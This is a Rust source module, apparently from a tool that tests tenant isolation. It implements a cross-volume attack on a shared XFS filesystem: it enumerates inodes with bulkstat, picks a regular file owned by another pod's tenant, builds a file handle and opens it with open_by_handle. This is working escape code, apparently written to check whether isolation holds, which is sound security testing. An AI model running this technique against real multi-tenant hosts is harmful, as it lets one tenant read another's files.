//! Attacks of root on files of other volumes on the same XFS, through file handles.

use crate::errno::Errno;
use crate::failure::Failure;
use crate::project::project_of;
use crate::sys::{self, File, INODE, INODES_START, Page};
use crate::target::Target;

/// User ID of the pod `restricted`. The attack targets its files.
pub const TENANT: u32 = 1000;

/// Field offsets in `struct xfs_bulkstat`, fs/xfs/libxfs/xfs_fs.h. The inode number is at offset 0.
const GENERATION: usize = 64;
const UID: usize = 68;
const PROJECT: usize = 76;
/// The mode has 16 bits, followed by 16 bits of padding.
const MODE: usize = 132;

const S_IFMT: u32 = 0o170_000;
const S_IFREG: u32 = 0o100_000;

/// `FILEID_INO32_GEN | XFS_FILEID_TYPE_64FLAG`, fs/xfs/xfs_export.h: a 64-bit inode number and its generation.
const HANDLE_TYPE: u32 = 0x81;
const HANDLE_LENGTH: u32 = 12;

/// Opens a file of the other tenant by its handle, with the attacker's own volume as the mount.
pub(crate) fn open(target: &Target<'_>, page: &mut Page) -> Result<(), Failure> {
    let volume = sys::open(target.volume, sys::READ_ONLY).map_err(Failure::step("open the directory"))?;
    let own = project_of(volume, page).map_err(Failure::step("read the project"))?;
    let (number, generation) = foreign_file(volume, page, own)?;
    // `struct file_handle`: length and type of the handle, then the handle.
    page.clear();
    page.put_u32(0, HANDLE_LENGTH);
    page.put_u32(4, HANDLE_TYPE);
    page.put(8, &number.to_ne_bytes());
    page.put_u32(16, generation);
    sys::open_by_handle(volume, page).map(drop).map_err(Failure::Denied)
}

/// Inode number and generation of a regular file of the other tenant. An attacker without `CAP_SYS_ADMIN` must guess
/// both numbers.
fn foreign_file(volume: File, page: &mut Page, own: u32) -> Result<(u64, u32), Failure> {
    let mut first = 0;
    loop {
        let (next, count) = sys::inodes_from(volume, page, first).map_err(Failure::step("read inodes"))?;
        if count == 0 {
            return Err(Failure::Step("look for a file of the other tenant", Errno::ENOENT));
        }
        for inode in (0..count).map(|at| INODES_START + at * INODE) {
            let project = page.get_u32(inode + PROJECT);
            let is_foreign = page.get_u32(inode + UID) == TENANT && project != 0 && project != own;
            if is_foreign && page.get_u32(inode + MODE) & S_IFMT == S_IFREG {
                return Ok((page.get_u64(inode), page.get_u32(inode + GENERATION)));
            }
        }
        first = next;
    }
}
